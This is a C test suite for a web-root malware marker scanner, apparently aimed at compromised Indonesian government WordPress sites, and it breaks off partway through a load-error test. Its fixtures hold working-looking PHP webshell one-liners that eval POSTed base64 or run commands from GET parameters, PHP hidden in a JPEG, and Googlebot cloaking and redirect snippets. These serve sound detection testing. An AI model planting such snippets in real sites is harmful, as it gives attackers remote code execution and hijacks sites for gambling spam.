/*
 * test_marker — the web-root content markers: the loader and its errors,
 * the scanner (paths, patterns, requires/near, min_matches, vetoes, sizes,
 * foreign hosts), excerpts, link-target domains, caps, hostile bytes, the
 * compiled-database cache, and the shipped set on realistic samples.
 *
 * Run without arguments: the cmocka suite. With `--scan DIR [OWN_DOMAIN
 * [MARKERS]]` it scans every regular file under DIR (first 1 MiB, no
 * symlink followed) with the shipped markers (or the MARKERS file/folder)
 * and prints one line per hit: how docs/markers.md tests a marker against
 * a real site for false positives.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "marker.h"

static char tmpdir[256];
static struct ronda_markers *shipped;

/* ------------------------------------------------------------ helpers */

static int
errs_have(const struct ronda_cfg_errors *errs, const char *needle)
{
	for (size_t i = 0; i < errs->n; i++)
		if (strstr(errs->v[i], needle) != NULL)
			return 1;
	return 0;
}

static void
errs_print(const struct ronda_cfg_errors *errs)
{
	for (size_t i = 0; i < errs->n; i++)
		fprintf(stderr, "  %s\n", errs->v[i]);
}

static struct ronda_markers *
load_str(const char *text, struct ronda_cfg_errors *errs)
{
	return ronda_markers_load_string("t.yaml", text, strlen(text), errs);
}

/* Load must fail with a message containing every needle (NULL-terminated). */
static void
expect_load_error(const char *text, ...)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_markers *m = load_str(text, &errs);
	va_list ap;
	const char *needle;

	if (m != NULL)
		fprintf(stderr, "loaded, but should not have:\n%s\n", text);
	assert_null(m);
	va_start(ap, text);
	while ((needle = va_arg(ap, const char *)) != NULL) {
		if (!errs_have(&errs, needle)) {
			fprintf(stderr, "no error with \"%s\"; got:\n", needle);
			errs_print(&errs);
		}
		assert_true(errs_have(&errs, needle));
	}
	va_end(ap);
	ronda_cfg_errors_free(&errs);
}

static int
scan(struct ronda_markers *m, const char *path, const char *content, const char *own,
    struct ronda_marker_result *r)
{
	char err[256];
	size_t n = content ? strlen(content) : 0;
	int rc = ronda_markers_scan(m, path, (const unsigned char *)content, n, n, own, r, err,
	    sizeof(err));

	if (rc < 0)
		fprintf(stderr, "scan error: %s\n", err);
	assert_true(rc >= 0);
	assert_int_equal(rc, r->nhits + r->nmore);
	return rc;
}

static const struct ronda_marker_hit *
hit_of(const struct ronda_marker_result *r, const char *id)
{
	for (int i = 0; i < r->nhits; i++)
		if (strcmp(r->hits[i].id, id) == 0)
			return &r->hits[i];
	return NULL;
}

static int
has_category(const struct ronda_marker_result *r, const char *cat)
{
	for (int i = 0; i < r->nhits; i++)
		if (strcmp(r->hits[i].category, cat) == 0)
			return 1;
	return 0;
}

static int
has_domain(const struct ronda_marker_result *r, const char *d)
{
	for (int i = 0; i < r->ndomains; i++)
		if (strcmp(r->domains[i], d) == 0)
			return 1;
	return 0;
}

static void
print_hits(const char *what, const struct ronda_marker_result *r)
{
	fprintf(stderr, "%s: %d hits\n", what, r->nhits);
	for (int i = 0; i < r->nhits; i++)
		fprintf(stderr, "  %s (%s)\n", r->hits[i].id, r->hits[i].category);
}

static void
write_file(const char *path, const char *text, mode_t mode)
{
	FILE *fp = fopen(path, "w");

	assert_non_null(fp);
	fputs(text, fp);
	fclose(fp);
	assert_int_equal(chmod(path, mode), 0);
}

/* The smallest marker file the loader accepts, around one marker body. */
#define ONE(body) \
    "markers:\n" \
    "  - id: t.one\n" \
    "    name: one\n" \
    "    category: webshell\n" \
    "    severity: high\n" \
    body

/* ------------------------------------------------------- shipped set */

/*
 * The shipped set is compiled once (about a second, many under ASan) and
 * its databases cached in cachedir; the other loads of it come from there.
 */
static char cachedir[300];
static double compile_s;

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int
load_shipped_group(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	const char *src = getenv("RONDA_SRC");
	char dir[1024];
	char *v[1] = { dir };
	struct ronda_strlist paths = { v, 1 };
	double t0 = now_s();

	(void)state;
	snprintf(dir, sizeof(dir), "%s/rules/webroot", src ? src : ".");
	snprintf(cachedir, sizeof(cachedir), "%s/cache", tmpdir);
	if (mkdir(cachedir, 0700) != 0)
		return -1;
	shipped = ronda_markers_load_cached(&paths, cachedir, &errs);
	compile_s = now_s() - t0;
	if (shipped == NULL)
		errs_print(&errs);
	ronda_cfg_errors_free(&errs);
	return 0;
}

static int
free_shipped_group(void **state)
{
	(void)state;
	ronda_markers_free(shipped);
	shipped = NULL;
	return 0;
}

static void
test_shipped_load(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_strlist none = { NULL, 0 };
	struct ronda_markers *def;

	(void)state;
	assert_non_null(shipped);
	assert_true(ronda_markers_count(shipped) >= 40);
	/* An empty list is the shipped folder, found beside the program. */
	def = ronda_markers_load_cached(&none, cachedir, &errs);
	if (def == NULL)
		errs_print(&errs);
	assert_non_null(def);
	assert_int_equal(ronda_markers_count(def), ronda_markers_count(shipped));
	ronda_markers_free(def);
	ronda_cfg_errors_free(&errs);
}

struct sample {
	const char *category;
	const char *path;
	const char *content;
	const char *own;
	const char *domain;	/* must be among the result's domains (NULL: none checked) */
};

/* Realistic planted files: each must give its category. */
static const struct sample attacks[] = {
	{ "webshell", "wp-content/themes/dinas/404.php",
	  "<?php\n/* theme 404 */\n$k = 'pass';\n"
	  "if (isset($_POST[$k])) { @eval(base64_decode($_POST[$k])); }\n"
	  "get_header(); ?>\n<h1>Halaman tidak ditemukan</h1>\n", NULL, NULL },
	{ "webshell", "wp-includes/images/smilies/icon_lol.php",
	  "<?php $GLOBALS['x'] = array('username' => 'a', 'post_encryption' => true, 'cgi_api' => true);\n"
	  "function vcnvSCZgBz($d) { return $d; } ?>", NULL, NULL },
	{ "cloaking", "index.php",
	  "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\n"
	  "if (preg_match('/googlebot|bingbot|google-inspectiontool/i', $ua)) {\n"
	  "    echo file_get_contents('https://lp.kaltimgacor.example/bontang/');\n    exit;\n}\n"
	  "?>\n<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
	  "bontangkota.go.id", "lp.kaltimgacor.example" },
	{ "gambling", "wp-content/uploads/2026/11/amp/index.html",
	  "<!doctype html><html lang=\"id\"><head>"
	  "<title>KALTIMTOTO: Situs Slot Gacor Maxwin Hari Ini</title>"
	  "<link rel=\"amphtml\" href=\"https://amp.kaltimtoto.example/bontang/\"></head><body>"
	  "<h1>Link Alternatif KALTIMTOTO</h1><p>Daftar slot gacor, RTP live, deposit pulsa 10rb, "
	  "bonus new member 100%.</p></body></html>", "bontangkota.go.id", "amp.kaltimtoto.example" },
	{ "hidden-link", "wp-content/themes/dinas/footer.php",
	  "<footer><p>&copy; Pemerintah Kota Bontang</p>\n"
	  "<div style=\"position:absolute;left:-7777px\"><a href=\"https://slot88.example/\">slot88</a>"
	  " <a href=\"https://situstoto.example/\">situs toto</a></div>\n<?php wp_footer(); ?></footer>",
	  "bontangkota.go.id", "slot88.example" },
	{ "htaccess-redirect", ".htaccess",
	  "# BEGIN WordPress\nRewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n# END WordPress\n"
	  "RewriteCond %{HTTP_REFERER} (google|bing) [NC]\n"
	  "RewriteRule ^(.*)$ https://gacor.example/?ref=bontang [R=302,L]\n",
	  "bontangkota.go.id", "gacor.example" },
	{ "sitemap", "sitemap-news.xml",
	  "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">"
	  "<url><loc>https://bontangkota.go.id/</loc></url>"
	  "<url><loc>https://seo.judi.example/bontang/slot-gacor</loc></url></urlset>",
	  "bontangkota.go.id", "seo.judi.example" },
	{ "upload-script", "wp-content/uploads/2026/11/laporan.php",
	  "<?php phpinfo(); ?>", NULL, NULL },
	{ "defacement", "index.html",
	  "<html><head><title>Hacked by ./B4dR0b0t</title></head><body bgcolor=black>"
	  "<h1>Hacked by ./B4dR0b0t</h1><p>Your security is low!</p><p>Greetz: all member</p>"
	  "</body></html>", NULL, NULL },
};

/* What sites really hold: none of them may give the category beside it. */
static const struct sample benign[] = {
	{ "webshell", "wp-includes/option.php",
	  "<?php\nfunction get_transient_data( $key ) {\n"
	  "\t$raw = get_option( '_transient_' . $key );\n"
	  "\treturn maybe_unserialize( base64_decode( $raw ) );\n}\n"
	  "$out = preg_replace_callback( '/\\[(\\w+)\\]/', 'do_shortcode_tag', $content );\n", NULL, NULL },
	{ "cloaking", "wp-content/plugins/jetpack/class.jetpack-user-agent.php",
	  "<?php\nfunction jetpack_is_bot() {\n\t$ua = strtolower( $_SERVER['HTTP_USER_AGENT'] );\n"
	  "\tforeach ( array( 'googlebot', 'bingbot', 'slurp' ) as $b ) {\n"
	  "\t\tif ( false !== strpos( $ua, $b ) ) { return true; }\n\t}\n\treturn false;\n}\n"
	  "function jetpack_robots( $robots ) { if ( jetpack_is_bot() ) { $robots['noindex'] = true; } "
	  "return $robots; }\n", NULL, NULL },
	{ "gambling", "berita/2026/11/satgas-judi-online.html",
	  "<article><h1>Satgas Berantas Judi Online Blokir 1.200 Situs</h1><p>Diskominfo bersama "
	  "Polres Bontang memblokir situs judi online dan togel. Warga diimbau melapor bila menemukan "
	  "promosi \"slot gacor\" di media sosial. Judi online merusak ekonomi keluarga.</p></article>",
	  "bontangkota.go.id", NULL },
	{ "hidden-link", "wp-content/themes/twentytwentyone/header.php",
	  "<a class=\"skip-link screen-reader-text\" href=\"#content\">Skip to content</a>\n"
	  "<nav id=\"menu\" style=\"display:none\"><a href=\"/profil\">Profil</a> "
	  "<a href=\"https://bontangkota.go.id/berita\">Berita</a></nav>", "bontangkota.go.id", NULL },
	{ "htaccess-redirect", ".htaccess",
	  "# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\n"
	  "RewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\n"
	  "RewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n"
	  "# END WordPress\nRewriteCond %{HTTPS} off\n"
	  "RewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n"
	  "RewriteCond %{HTTP_USER_AGENT} (AhrefsBot|SemrushBot) [NC]\nRewriteRule .* - [F,L]\n"
	  "ErrorDocument 404 /404.html\n", "bontangkota.go.id", NULL },
	{ "sitemap", "sitemap.xml",
	  "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">"
	  "<url><loc>https://www.bontangkota.go.id/</loc></url>"
	  "<url><loc>https://bontangkota.go.id/berita/polisi-ungkap-judi-online</loc></url></urlset>",
	  "bontangkota.go.id", NULL },
	{ "upload-script", "wp-content/uploads/2026/11/laporan.pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
	  NULL, NULL },
	{ "defacement", "index.php",
	  "<?php\n/**\n * Front to the WordPress application.\n */\ndefine( 'WP_USE_THEMES', true );\n"
	  "require __DIR__ . '/wp-blog-header.php';\n", NULL, NULL },
};

static void
test_shipped_categories(void **state)
{
	struct ronda_marker_result r;

	(void)state;
	assert_non_null(shipped);
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const struct sample *s = &attacks[i];
		scan(shipped, s->path, s->content, s->own, &r);
		if (!has_category(&r, s->category))
			print_hits(s->path, &r);
		assert_true(has_category(&r, s->category));
		assert_true(r.severity >= 3);
		if (s->domain != NULL) {
			if (!has_domain(&r, s->domain))
				fprintf(stderr, "%s: no domain %s (%d)\n", s->path, s->domain, r.ndomains);
			assert_true(has_domain(&r, s->domain));
		}
		/* The site itself is never a link target. */
		for (int d = 0; d < r.ndomains; d++)
			assert_null(strstr(r.domains[d], "bontangkota.go.id"));
	}
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
		const struct sample *s = &benign[i];
		scan(shipped, s->path, s->content, s->own, &r);
		if (r.nhits > 0)
			print_hits(s->path, &r);
		assert_int_equal(r.nhits, 0);
		assert_int_equal(r.severity, 0);
		assert_int_equal(r.ndomains, 0);
	}
}

/* A file that matches more markers than a result keeps. */
static void
test_shipped_hit_cap_keeps_worst(void **state)
{
	static const char shell[] =
	    "<?php $auth_pass = \"63a9f0ea7bb98050796b649e85481845\"; $default_action = 'FilesMan';\n"
	    "@eval(base64_decode($_POST['a'])); @assert($_REQUEST['b']); $_GET['f']($_GET['c']);\n"
	    "system($_GET['cmd']); include($_GET['page']); function vcnvSCZgBz($s) {}\n"
	    "$GLOBALS['module_to_load'] = 1; $v = \"!C99Shell v. 2\"; // r57shell\n"
	    "function featureShell($cmd, $cwd) {} // IndoXploit\n<title>Gel4y Mini Shell</title>\n";
	struct ronda_marker_result r;

	(void)state;
	scan(shipped, "wp-content/uploads/2026/11/wso.php", shell, NULL, &r);
	assert_int_equal(r.nhits, RONDA_MARKER_HITS);
	assert_true(r.nmore > 0);
	assert_int_equal(r.severity, 4);
	for (int i = 0; i < r.nhits; i++) {
		assert_int_equal(r.hits[i].severity, 4);	/* the high one (upload-script) was dropped */
		if (i > 0)
			assert_true(r.hits[i - 1].severity >= r.hits[i].severity);
	}
	assert_null(hit_of(&r, "file.upload.script-in-upload-folder"));
	/* Families are named. */
	{
		int fam = 0;
		for (int i = 0; i < r.nhits; i++)
			fam += r.hits[i].family != NULL;
		assert_true(fam > 0);
	}
	/* Webshells are not link markers: no domains. */
	assert_int_equal(r.ndomains, 0);
}

/* ------------------------------------------------------------- excerpts */

static const char *const excerpt_set =
    ONE("    patterns: ['eval\\s*\\(\\s*base64_decode\\s*\\(']\n"
    "    tests:\n"
    "      match: [{path: a.php, content: 'eval(base64_decode('}]\n"
    "      nomatch: [{path: a.php, content: 'base64_decode('}]\n");

static void
test_excerpt_centred_and_capped(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_markers *m = load_str(excerpt_set, &errs);
	struct ronda_marker_result r;
	static const char needle[] = "eval(base64_decode(";
	char buf[4096], err[128];
	size_t at = 1000, nl = strlen(needle);
	const struct ronda_marker_hit *h;

	(void)state;
	if (m == NULL)
		errs_print(&errs);
	assert_non_null(m);
	memset(buf, 'a', sizeof(buf));
	memcpy(buf + at, needle, nl);
	assert_int_equal(ronda_markers_scan(m, "x.php", (unsigned char *)buf, sizeof(buf),
	    sizeof(buf), NULL, &r, err, sizeof(err)), 1);
	h = &r.hits[0];
	assert_int_equal(h->excerpt_len, RONDA_MARKER_EXCERPT);
	assert_int_equal(h->excerpt[RONDA_MARKER_EXCERPT], '\0');
	/* The match sits in the middle: (96 - 19) / 2 = 38 bytes before it. */
	assert_memory_equal(h->excerpt, buf + at - (RONDA_MARKER_EXCERPT - nl) / 2,
	    RONDA_MARKER_EXCERPT);
	assert_memory_equal(h->excerpt + (RONDA_MARKER_EXCERPT - nl) / 2, needle, nl);

	/* At the start: the excerpt starts there. */
	memset(buf, 'a', sizeof(buf));
	memcpy(buf, needle, nl);
	ronda_markers_scan(m, "x.php", (unsigned char *)buf, sizeof(buf), sizeof(buf), NULL, &r,
	    err, sizeof(err));
	assert_int_equal(r.nhits, 1);
	assert_memory_equal(r.hits[0].excerpt, buf, RONDA_MARKER_EXCERPT);

	/* At the end: the last 96 bytes. */
	memset(buf, 'a', sizeof(buf));
	memcpy(buf + sizeof(buf) - nl, needle, nl);
	ronda_markers_scan(m, "x.php", (unsigned char *)buf, sizeof(buf), sizeof(buf), NULL, &r,
	    err, sizeof(err));
	assert_int_equal(r.nhits, 1);
	assert_int_equal(r.hits[0].excerpt_len, RONDA_MARKER_EXCERPT);
	assert_memory_equal(r.hits[0].excerpt, buf + sizeof(buf) - RONDA_MARKER_EXCERPT,
	    RONDA_MARKER_EXCERPT);

	/* A file shorter than an excerpt: all of it. */
	scan(m, "x.php", "<?php eval(base64_decode($x));", NULL, &r);
	assert_int_equal(r.hits[0].excerpt_len, strlen("<?php eval(base64_decode($x));"));
	assert_string_equal(r.hits[0].excerpt, "<?php eval(base64_decode($x));");
	ronda_markers_free(m);
	ronda_cfg_errors_free(&errs);
}

/* A match longer than an excerpt shows its start. */
static void
test_excerpt_long_match(void **state)
{
	struct ronda_marker_result r;
	char *buf = malloc(8192);
	char err[128];
	size_t n = 0;
	const struct ronda_marker_hit *h;

	(void)state;
	n += (size_t)sprintf(buf, "<?php\n/* padding */\n%0500d\n", 0);
	n += (size_t)sprintf(buf + n, "eval($f('");
	memset(buf + n, 'Q', 3000);
	n += 3000;
	n += (size_t)sprintf(buf + n, "'));\n");
	assert_true(ronda_markers_scan(shipped, "t.php", (unsigned char *)buf, n, n, NULL, &r,
	    err, sizeof(err)) > 0);
	h = hit_of(&r, "file.webshell.encoded-blob");
	assert_non_null(h);
	assert_int_equal(h->excerpt_len, RONDA_MARKER_EXCERPT);
	assert_memory_equal(h->excerpt, "\neval($f('QQQ", 13);
	free(buf);
}

/* ------------------------------------------------------------- domains */

static void
test_domains(void **state)
{
	struct ronda_marker_result r;
	char page[8192];
	size_t n = 0;

	(void)state;
	n += (size_t)snprintf(page + n, sizeof(page) - n,
	    "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>"
	    "<a href=\"https://bontangkota.go.id/\">home</a>"
	    "<div style=\"display:none\">"
	    "<a href=\"https://Slot-A.example:8443/x\">slot gacor</a>"
	    "<a href=\"https://slot-a.example/again\">slot gacor</a>"
	    "<a href=\"https://www.bontangkota.go.id/a\">own</a>"
	    "<a href=\"https://dinkes.bontangkota.go.id/b\">own sub</a>"
	    "<a href=\"//slot-b.example/\">togel</a>"
	    "<a href='http://user@slot-c.example./'>maxwin</a>"
	    "<a href=\"https://fonts.googleapis.com/css\">f</a>"
	    "<img src=\"http://203.0.113.7/p.gif\">"
	    "<a href=\"https://bad_host.example/\">x</a>"
	    "<a href=\"https://localhost/\">x</a>"
	    "<a href=\"https://999.1.1.1/\">x</a>"
	    "<script>var u = \"https:\\/\\/slot-d.example\\/go\";</script>");
	for (int i = 0; i < 10; i++)
		n += (size_t)snprintf(page + n, sizeof(page) - n,
		    "<a href=\"https://farm%d.example/\">judi %d</a>", i, i);
	n += (size_t)snprintf(page + n, sizeof(page) - n, "</div></body></html>");
	assert_true(n < sizeof(page) - 1);

	scan(shipped, "index.html", page, "www.bontangkota.go.id", &r);
	assert_true(has_category(&r, "hidden-link"));
	assert_int_equal(r.ndomains, RONDA_MARKER_DOMAINS);
	/* Lower case, no port, deduplicated, own domain and benign hosts left out, in order. */
	assert_string_equal(r.domains[0], "slot-a.example");
	assert_string_equal(r.domains[1], "slot-b.example");
	assert_string_equal(r.domains[2], "slot-c.example");
	assert_string_equal(r.domains[3], "203.0.113.7");
	assert_string_equal(r.domains[4], "slot-d.example");
	assert_string_equal(r.domains[5], "farm0.example");
	assert_string_equal(r.domains[6], "farm1.example");
	assert_string_equal(r.domains[7], "farm2.example");
	/* farm3..farm9: counted, not kept. */
	assert_int_equal(r.ndomains_more, 7);
	for (int i = 0; i < r.ndomains; i++)
		assert_true(strlen(r.domains[i]) <= RONDA_MARKER_DOMAIN_MAX);

	/* Without an own domain, the site's links are listed too. */
	scan(shipped, "index.html", page, NULL, &r);
	assert_true(has_domain(&r, "bontangkota.go.id"));
}

/* Link targets near the injected block come first, a page's other links after. */
static void
test_domains_near_the_match(void **state)
{
	struct ronda_marker_result r;
	char page[16384];
	size_t n = 0;

	(void)state;
	for (int i = 0; i < 12; i++)
		n += (size_t)snprintf(page + n, sizeof(page) - n,
		    "<li><a href=\"https://opd%d.kaltimprov.example/\">Dinas %d</a></li>\n", i, i);
	memset(page + n, ' ', 4000);
	n += 4000;
	n += (size_t)snprintf(page + n, sizeof(page) - n,
	    "<div style=\"display:none\"><a href=\"https://gacor-x.example/\">slot gacor</a></div>");
	scan(shipped, "index.html", page, "bontangkota.go.id", &r);
	assert_true(has_category(&r, "hidden-link"));
	assert_int_equal(r.ndomains, 1);
	assert_string_equal(r.domains[0], "gacor-x.example");
}

/* ----------------------------------------------------- hostile content */

static void
test_binary_and_nul(void **state)
{
	struct ronda_marker_result r;
	unsigned char *big;
	char err[128];
	static const unsigned char img[] =
	    "\xff\xd8\xff\xe0\0\x10JFIF\0\0\0\0<?php @eval($_POST['z']); ?>\0\0\xff\xd9";
	const struct ronda_marker_hit *h;
	uint64_t x = 0x9e3779b97f4a7c15ULL;

	(void)state;
	/* NUL bytes around the code do not hide it; the excerpt keeps them. */
	assert_true(ronda_markers_scan(shipped, "wp-content/uploads/2026/11/logo.jpg", img,
	    sizeof(img) - 1, sizeof(img) - 1, NULL, &r, err, sizeof(err)) > 0);
	h = hit_of(&r, "file.webshell.php-in-image");
	assert_non_null(h);
	assert_int_equal(h->excerpt_len, sizeof(img) - 1);
	assert_memory_equal(h->excerpt, img, sizeof(img) - 1);

	/* 1 MiB of noise: scanned to the end, nothing found, nothing read past it. */
	big = malloc(1 << 20);
	assert_non_null(big);
	for (size_t i = 0; i < (1u << 20); i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		big[i] = (unsigned char)(x >> 24);
	}
	assert_int_equal(ronda_markers_scan(shipped, "wp-content/uploads/x.bin", big, 1 << 20,
	    1 << 20, NULL, &r, err, sizeof(err)), 0);
	/* The same noise in an exact-size heap block, for ASan's eyes. */
	{
		unsigned char *tail = malloc(37);
		memcpy(tail, big, 37);
		assert_true(ronda_markers_scan(shipped, "a.php", tail, 37, 37, NULL, &r, err,
		    sizeof(err)) >= 0);
		free(tail);
	}
	free(big);

	/* NULL content, empty content, hostile paths. */
	assert_int_equal(ronda_markers_scan(shipped, NULL, NULL, 10, 10, NULL, &r, err,
	    sizeof(err)), 0);
	assert_int_equal(r.content_cut, 1);
	assert_int_equal(ronda_markers_scan(shipped, "", (const unsigned char *)"", 0, 0,
	    "not a domain!", &r, err, sizeof(err)), 0);
	{
		char *longpath = malloc(10001);
		memset(longpath, 'a', 10000);
		memcpy(longpath + 9990, "/x.php", 6);
		longpath[10000] = '\0';
		assert_true(ronda_markers_scan(shipped, longpath, (const unsigned char *)"<?php", 5,
		    5, NULL, &r, err, sizeof(err)) >= 0);
		free(longpath);
	}
	/* A NULL set scans nothing. */
	assert_int_equal(ronda_markers_scan(NULL, "a.php", img, 4, 4, NULL, &r, err,
	    sizeof(err)), 0);
}

static void
test_content_cut(void **state)
{
	struct ronda_marker_result r;
	char err[128];
	static const char text[] = "<?php /* ok */ ?>\n<?php @eval(base64_decode($_POST['x']));";
	size_t n = sizeof(text) - 1;

	(void)state;
	assert_true(ronda_markers_scan(shipped, "a.php", (const unsigned char *)text, n, n, NULL,
	    &r, err, sizeof(err)) > 0);
	assert_int_equal(r.content_cut, 0);
	/* The caller read only the first bytes: what follows is not seen, and that is said. */
	assert_int_equal(ronda_markers_scan(shipped, "a.php", (const unsigned char *)text, 20,
	    n, NULL, &r, err, sizeof(err)), 0);
	assert_int_equal(r.content_cut, 1);
}

/* ------------------------------------------------------------ semantics */

static const char *const semantics_set =
    "markers:\n"
    "  - id: t.near\n"
    "    name: near\n"
    "    category: cloaking\n"
    "    severity: medium\n"
    "    requires: ['alpha', 'beta']\n"
    "    near: 20\n"
    "    tests:\n"
    "      match: [{path: a.txt, content: 'alpha beta'}]\n"
    "      nomatch: [{path: a.txt, content: \"alpha                              beta\"}]\n"
    "  - id: t.min\n"
    "    name: min\n"
    "    category: gambling\n"
    "    severity: high\n"
    "    min_matches: 2\n"
    "    patterns: ['red', 'green', 'blue']\n"
    "    not: ['grey']\n"
    "    tests:\n"
    "      match: [{path: a.txt, content: 'red green red'}]\n"
    "      nomatch:\n"
    "        - {path: a.txt, content: 'red red red'}\n"
    "        - {path: a.txt, content: 'red green grey'}\n"
    "  - id: t.path\n"
    "    name: path only\n"
    "    category: upload-script\n"
    "    severity: low\n"
    "    paths: ['^up/.*\\.php$']\n"
    "    not_paths: ['^up/safe/']\n"
    "    tests:\n"
    "      match: [{path: up/x.php}]\n"
    "      nomatch: [{path: up/safe/x.php}, {path: down/x.php}]\n"
    "  - id: t.size\n"
    "    name: small\n"
    "    category: webshell\n"
    "    severity: critical\n"
    "    family: tiny\n"
    "    max_size: 1k\n"
    "    patterns: ['(?-i)Upload']\n"
    "    tests:\n"
    "      match: [{path: a.php, content: 'Upload'}]\n"
    "      nomatch:\n"
    "        - {path: a.php, content: 'Upload', size: 2k}\n"
    "        - {path: a.php, content: 'upload'}\n"
    "  - id: t.foreign\n"
    "    name: foreign\n"
    "    category: sitemap\n"
    "    severity: medium\n"
    "    patterns: ['<loc>']\n"
    "    foreign_hosts: 2\n"
    "    tests:\n"
    "      match:\n"
    "        - path: s.xml\n"
    "          own_domain: own.example\n"
    "          content: '<loc>http://a.example/</loc><loc>http://b.example/</loc>'\n"
    "          domains: [a.example, b.example]\n"
    "      nomatch:\n"
    "        - path: s.xml\n"
    "          own_domain: own.example\n"
    "          content: '<loc>http://a.example/</loc><loc>http://x.own.example/</loc>'\n"
    "        - {path: s.xml, content: '<loc>http://a.example/</loc><loc>http://b.example/</loc>'}\n";

static void
test_semantics(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_markers *m = load_str(semantics_set, &errs);
	struct ronda_marker_result r;

	(void)state;
	if (m == NULL)
		errs_print(&errs);
	assert_non_null(m);
	assert_int_equal(ronda_markers_count(m), 5);

	/* near: the excerpt is where they meet, not the first alpha far above. */
	scan(m, "a.txt", "alpha ............................................ alpha beta", NULL, &r);
	assert_non_null(hit_of(&r, "t.near"));
	assert_non_null(strstr(hit_of(&r, "t.near")->excerpt, "beta"));
	/* Order does not matter for near. */
	scan(m, "a.txt", "beta alpha", NULL, &r);
	assert_non_null(hit_of(&r, "t.near"));
	scan(m, "a.txt", "alpha", NULL, &r);
	assert_null(hit_of(&r, "t.near"));

	/* min_matches counts distinct patterns; a veto anywhere wins. */
	scan(m, "a.txt", "blue, then much later: green", NULL, &r);
	assert_non_null(hit_of(&r, "t.min"));
	scan(m, "a.txt", "GREY blue green", NULL, &r);
	assert_null(hit_of(&r, "t.min"));

	/* Path only: no excerpt, but a hit; the content does not matter. */
	scan(m, "up/a/b.php", NULL, NULL, &r);
	assert_non_null(hit_of(&r, "t.path"));
	assert_int_equal(hit_of(&r, "t.path")->excerpt_len, 0);
	assert_int_equal(hit_of(&r, "t.path")->severity, 1);
	scan(m, "UP/B.PHP", "x", NULL, &r);
	assert_non_null(hit_of(&r, "t.path"));	/* paths are caseless */

	/* max_size looks at the size on disk. */
	{
		char err[64];
		assert_int_equal(ronda_markers_scan(m, "a.php", (const unsigned char *)"Upload", 6,
		    1024, NULL, &r, err, sizeof(err)), 1);
		assert_string_equal(r.hits[0].family, "tiny");
		assert_int_equal(r.severity, 4);
		assert_int_equal(ronda_markers_scan(m, "a.php", (const unsigned char *)"Upload", 6,
		    1025, NULL, &r, err, sizeof(err)), 0);
	}
	/* foreign_hosts: the first host is the site when it is not given. */
	scan(m, "s.xml", "<loc>http://own.example/</loc><loc>http://a.example/</loc>"
	    "<loc>http://b.example/</loc>", NULL, &r);
	assert_non_null(hit_of(&r, "t.foreign"));
	/* Several hits: sorted by severity. */
	scan(m, "up/x.php", "alpha beta red green Upload", NULL, &r);
	assert_int_equal(r.nhits, 4);
	assert_string_equal(r.hits[0].id, "t.size");
	assert_string_equal(r.hits[1].id, "t.min");
	assert_string_equal(r.hits[2].id, "t.near");
	assert_string_equal(r.hits[3].id, "t.path");
	ronda_markers_free(m);
	ronda_cfg_errors_free(&errs);
}

/* --------------------------------------------------------- load errors */

static void
test_load_errors(void **state)
{
	(void)state;
	expect_load_error(ONE("    colour: red\n"
	    "    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"),
	    "t.yaml:6: marker t.one: colour: unknown key", NULL);
	expect_load_error(ONE("    patterns: ['(unclosed']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"),
	    "t.yaml:6: marker t.one: pattern does not compile", NULL);
	expect_load_error(ONE("    patterns: ['a*']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"),
	    "t.yaml:6: marker t.one: pattern can match the empty string", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: x}]}\n"),
	    "t.yaml:2: marker t.one: tests: at least one match and one nomatch", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"),
	    "t.yaml:2: marker t.one: tests:", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: y}], nomatch: [{path: a, content: z}]}\n"),
	    "t.yaml:7: marker t.one: test case does not match", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: xx}]}\n"),
	    "t.yaml:7: marker t.one: test case matches but must not", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"
	    "  - id: t.one\n"
	    "    name: again\n"
	    "    category: webshell\n"
	    "    severity: low\n"
	    "    patterns: ['z']\n"
	    "    tests: {match: [{path: a, content: z}], nomatch: [{path: a, content: y}]}\n"),
	    "t.yaml:8: marker t.one: duplicate id (first at t.yaml:2)", NULL);
	expect_load_error("markers:\n"
	    "  - id: t.cat\n"
	    "    name: c\n"
	    "    category: malware\n"
	    "    severity: urgent\n"
	    "    patterns: ['x']\n"
